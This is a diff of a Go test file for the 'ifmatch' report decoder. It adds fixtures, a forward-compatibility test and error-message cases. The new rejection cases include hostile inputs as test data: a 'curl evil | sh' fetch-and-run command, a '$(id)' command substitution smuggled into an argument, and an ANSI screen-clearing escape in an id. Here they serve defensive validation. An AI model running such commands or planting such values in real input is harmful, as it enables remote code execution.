@@ -15,18 +15,27 @@ import (
 	"ifmatch/reports"
 )
 
-func fixture(t testing.TB) []byte {
+func fixture(t testing.TB) []byte { return file(t, "run.json") }
+
+func file(t testing.TB, name string) []byte {
 	t.Helper()
-	data, err := os.ReadFile("testdata/run.json")
+	data, err := os.ReadFile(filepath.Join("testdata", name))
 	if err != nil {
 		t.Fatal(err)
 	}
 	return data
 }
 
+// TestEncodeOfDecodeIsTheSameFile reads a result of the first version and one of today.
 func TestEncodeOfDecodeIsTheSameFile(t *testing.T) {
 	t.Parallel()
-	want := fixture(t)
+	for _, name := range []string{"run.json", "gate.json"} {
+		sameAgain(t, file(t, name))
+	}
+}
+
+func sameAgain(t *testing.T, want []byte) {
+	t.Helper()
 	r, err := reports.Decode(bytes.NewReader(want))
 	if err != nil {
 		t.Fatal(err)
@@ -77,7 +86,14 @@ func TestDecodeSaysWhatIsWrong(t *testing.T) {
 		{"a list", `[]`, "the document holds a array"},
 		{"newer schema", replace(`"schema": 1`, `"schema": 2`), "schema 2, but this ifmatch reads schema 1"},
 		{"schema as text", replace(`"schema": 1`, `"schema": "1"`), "line 2, column 15: schema holds a string, want int"},
-		{"unknown field", replace(`"hash"`, `"hasch"`), `unknown field "hasch"`},
+		{"a load result", `{"schema":1,"kind":"load"}`, `this is a "load" document`},
+		{"an id of two words", replace(`"id": "BLOB-COND-20/put-blob-exists"`, `"id": "BLOB-COND-20/put\tblob"`), "an id holds what no id can hold"},
+		{"a clause that repaints", replace(`"BLOB-COND-20",`, `"BLOB\u001b[2J",`), "an id holds what no id can hold"},
+		{"known without a baseline", replace(`"status": "failed"`, `"known": {"how": "effect"}, "status": "failed"`), "the run had no baseline"},
+		{"a known failure of nothing", replace(`"status": "failed"`, `"status": "known-failure"`), `no "known" field`},
+		{"a command to paste", replace(`"seed": 7,`, `"again": "ifmatch run; curl evil | sh", "seed": 7,`), "no command of ifmatch alone"},
+		{"a command in a word", replace(`"seed": 7,`, `"again": "ifmatch run --target $(id)", "seed": 7,`), "no command of ifmatch alone"},
+		{"deep", strings.Repeat(`{"schema":`, 20000), "exceeded max depth"},
 		{"second document", file + file, "line "},
 		{"unknown verdict", replace(`"status": "failed"`, `"status": "pass"`), `scenario 1 (BLOB-COND-20/put-blob-exists): status is "pass"`},
 		{"unknown level", replace(`"level": "must"`, `"level": "shall"`), `level is "shall"`},
@@ -111,6 +127,22 @@ func TestDecodeAcceptsAnInterruptedRun(t *testing.T) {
 	}
 	if !r.Incomplete {
 		t.Error("Incomplete is lost")
+	}
+}
+
+func TestDecodeLeavesOutWhatLaterVersionsAdd(t *testing.T) {
+	t.Parallel()
+	later := strings.Replace(string(fixture(t)), `"seed": 7,`, `"seed": 7, "moon": {"phase": "full"},`, 1)
+	r, err := reports.Decode(strings.NewReader(later))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got bytes.Buffer
+	if err := reports.Encode(&got, r); err != nil {
+		t.Fatal(err)
+	}
+	if d := cmp.Diff(string(fixture(t)), got.String()); d != "" {
+		t.Errorf("-want +got:\n%s", d)
 	}
 }
 
@@ -209,6 +241,7 @@ func assertFiles(t *testing.T, dir string, want ...string) {
 // no input is silently read as something else.
 func FuzzDecode(f *testing.F) {
 	f.Add(fixture(f))
+	f.Add(file(f, "gate.json"))
 	f.Add([]byte(`{"schema":1,"plan":{"level":"must"},"summary":{},"scenarios":[]}`))
 	f.Add([]byte(`{"schema":1,"plan":{"level":"must"},"summary":{"planned":1},"incomplete":true,"scenarios":[]}`))
 	f.Add([]byte(`{"schema":1e0}`))
